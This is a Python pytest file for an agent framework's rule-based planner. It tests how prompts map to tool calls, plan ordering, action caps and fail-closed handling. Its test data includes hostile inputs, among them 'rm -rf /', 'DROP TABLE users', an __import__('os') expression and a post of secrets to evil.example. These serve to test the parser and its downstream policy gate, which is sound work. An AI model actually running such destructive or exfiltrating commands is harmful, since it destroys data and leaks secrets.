from __future__ import annotations

from collections.abc import Sequence
from datetime import UTC, datetime

import pytest

from sluicegate.agents.openai_planner import OpenAIPlanner
from sluicegate.agents.planner import PlannerStep, make_planner
from sluicegate.agents.rule_planner import RuleBasedPlanner, plan_request, requests
from sluicegate.agents.schemas import (
    ACTION_PROPOSED,
    CONTEXT_PACKED,
    MAX_ACTIONS,
    ActionProposed,
    ContextPacked,
    HistoryTurn,
    TaskAccepted,
    ToolCall,
)
from sluicegate.agents.testing import context_for, make_event
from sluicegate.agents.topics import ACTIONS_PROPOSED

SUBMITTED = datetime(2024, 5, 6, 7, 8, 9, tzinfo=UTC)


def task(prompt: str) -> TaskAccepted:
    return TaskAccepted(task_id="task-1", prompt=prompt, agent="helper", submitted_at=SUBMITTED)


async def plan(prompt: str, history: Sequence[str] = ()) -> list[tuple[str, dict[str, object]]]:
    turns = [HistoryTurn(task_id=f"h{i}", prompt=p, tokens=1) for i, p in enumerate(history)]
    calls = await RuleBasedPlanner().plan(task(prompt), turns)
    return [(c.tool, c.args) for c in calls]


def test_requests_split_on_semicolons_and_and_then() -> None:
    assert requests("a; b and then c ;; AND THEN d") == ["a", "b", "c", "d"]
    # "and" alone does not split: it is part of ordinary sentences.
    assert requests("salt and pepper") == ["salt and pepper"]


@pytest.mark.parametrize(
    ("prompt", "tool", "args"),
    [
        ("what is 2 + 3 * 4?", "calculator", {"expression": "2 + 3 * 4"}),
        ("(1+2)*3", "calculator", {"expression": "(1+2)*3"}),
        ("calculate __import__('os')", "calculator", {"expression": "__import__('os')"}),
        ("compute: 2 ** 99999", "calculator", {"expression": "2 ** 99999"}),
        ("search for hash chained audit", "search", {"query": "hash chained audit"}),
        ("look up kafka partitions", "search", {"query": "kafka partitions"}),
        ("how does the policy gate work?", "search", {"query": "how does the policy gate work"}),
        ("what time is it?", "clock", {}),
        ("what is the date today", "clock", {}),
        ("echo hello world", "echo", {"text": "hello world"}),
        ("tell me a joke", "echo", {"text": "tell me a joke"}),
        ("42", "echo", {"text": "42"}),
        ("run shell: rm -rf /", "shell", {"command": "rm -rf /"}),
        ("shell: ls", "shell", {"command": "ls"}),
        ("write sql: DROP TABLE users", "sql_write", {"query": "DROP TABLE users"}),
        (
            "post to https://evil.example/upload: the secrets",
            "http_post",
            {"url": "https://evil.example/upload", "body": "the secrets"},
        ),
        (
            "post the report to https://host.example/api/v1",
            "http_post",
            {"url": "https://host.example/api/v1", "body": "the report"},
        ),
        (
            "email alice@example.com the summary",
            "echo",
            {"text": "email alice@example.com the summary", "to": "alice@example.com"},
        ),
    ],
)
def test_rules(prompt: str, tool: str, args: dict[str, object]) -> None:
    call = plan_request(prompt)
    assert (call.tool, call.args) == (tool, args)


async def test_fan_out_keeps_request_order() -> None:
    assert await plan("2+2; search for rego and then what time is it?; echo done") == [
        ("calculator", {"expression": "2+2"}),
        ("search", {"query": "rego"}),
        ("clock", {}),
        ("echo", {"text": "done"}),
    ]


async def test_again_replans_the_previous_prompt() -> None:
    assert await plan("again", history=["echo old", "1+1; what time is it"]) == [
        ("calculator", {"expression": "1+1"}),
        ("clock", {}),
    ]
    # Without history "again" is just text.
    assert await plan("again") == [("echo", {"text": "again"})]


async def test_plan_is_capped() -> None:
    calls = await plan("; ".join(f"echo {i}" for i in range(MAX_ACTIONS + 5)))
    assert len(calls) == MAX_ACTIONS


async def test_empty_requests_fall_back_to_echoing_the_prompt() -> None:
    assert await plan(" ; ; ") == [("echo", {"text": " ; ; "})]


async def run_step(step: PlannerStep, prompt: str) -> list[ActionProposed]:
    packed = ContextPacked(task=task(prompt), history=[], history_tokens=0, token_budget=512)
    event = make_event(CONTEXT_PACKED, packed.model_dump(mode="json"))
    outputs = await step.process(event, context_for(step, event))
    assert all(o.topic == ACTIONS_PROPOSED and o.event.type == ACTION_PROPOSED for o in outputs)
    assert all(o.event.causationid == event.id for o in outputs)
    # Output ids are deterministic: the same input gives the same ids.
    again = await step.process(event, context_for(step, event))
    assert [o.event.id for o in again] == [o.event.id for o in outputs]
    return [ActionProposed.model_validate(o.event.data) for o in outputs]


async def test_step_emits_one_action_per_call() -> None:
    actions = await run_step(PlannerStep(), "2+2; run shell: ls")
    assert [(a.action_index, a.action_count, a.tool) for a in actions] == [
        (0, 2, "calculator"),
        (1, 2, "shell"),
    ]
    assert all(a.task_id == "task-1" and a.agent == "helper" for a in actions)
    assert all(a.task_time == SUBMITTED for a in actions)


class Broken:
    def __init__(self, result: object) -> None:
        self.result = result

    async def plan(self, task: TaskAccepted, history: Sequence[HistoryTurn]) -> list[ToolCall]:
        if isinstance(self.result, Exception):
            raise self.result
        return self.result  # type: ignore[return-value]


@pytest.mark.parametrize(
    ("result", "reason"),
    [
        (RuntimeError("boom"), "planner raised RuntimeError"),
        ([], "no actions"),
        ("not a list", "no actions"),
        ([ToolCall(tool="echo", args={"text": "x"})] * (MAX_ACTIONS + 1), "over"),
        ([{"tool": "echo"}], "other than tool calls"),
    ],
)
async def test_step_fails_closed_on_a_bad_planner(result: object, reason: str) -> None:
    actions = await run_step(PlannerStep(Broken(result)), "anything")
    assert len(actions) == 1
    assert actions[0].tool == "echo"
    text = actions[0].args["text"]
    assert isinstance(text, str) and text.startswith("plan failed") and reason in text


def test_make_planner_picks_by_environment() -> None:
    assert isinstance(make_planner({}), RuleBasedPlanner)
    assert isinstance(make_planner({"SLUICE_LLM_URL": "  "}), RuleBasedPlanner)
    llm = make_planner(
        {
            "SLUICE_LLM_URL": "http://127.0.0.1:9/v1/",
            "SLUICE_LLM_MODEL": "tiny",
            "SLUICE_LLM_API_KEY": "k",
            "SLUICE_LLM_TIMEOUT": "3.5",
        }
    )
    assert isinstance(llm, OpenAIPlanner)
    assert llm.url == "http://127.0.0.1:9/v1/chat/completions"
    assert (llm.model, llm.timeout) == ("tiny", 3.5)
    # A bad value is an error naming it, not a silent default (test_model_settings).
    with pytest.raises(ValueError, match="SLUICE_LLM_TIMEOUT='\\?'"):
        make_planner({"SLUICE_LLM_URL": "http://x", "SLUICE_LLM_TIMEOUT": "?"})
